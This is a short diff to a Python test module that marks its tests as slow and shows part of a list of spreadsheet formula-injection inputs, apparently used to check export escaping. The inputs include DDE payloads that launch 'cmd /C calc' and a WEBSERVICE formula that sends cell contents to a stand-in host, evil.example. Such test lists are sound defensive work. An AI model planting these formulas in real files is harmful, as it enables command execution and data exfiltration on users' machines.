@@ -13,6 +13,8 @@ from tests.live.books import BookWriter, file_port, freeze
 from tests.live.engine import Excel
 from tests.live.engine.model import Fault
 
+pytestmark = pytest.mark.slow
+
 TEXTS = (
     "=cmd|'/C calc'!A0", "=1+1", "+1", "+1+1", "-2", "-2+3", "@SUM(1)", "@A1", '=HYPERLINK("http://evil.example","x")',
     '=WEBSERVICE("http://evil.example/"&A1)', '=DDE("cmd";"/C calc";"x")', "＝1+1", "＋1", "－1", "＠SUM(1)", "{=1+1}", "'=1+1",
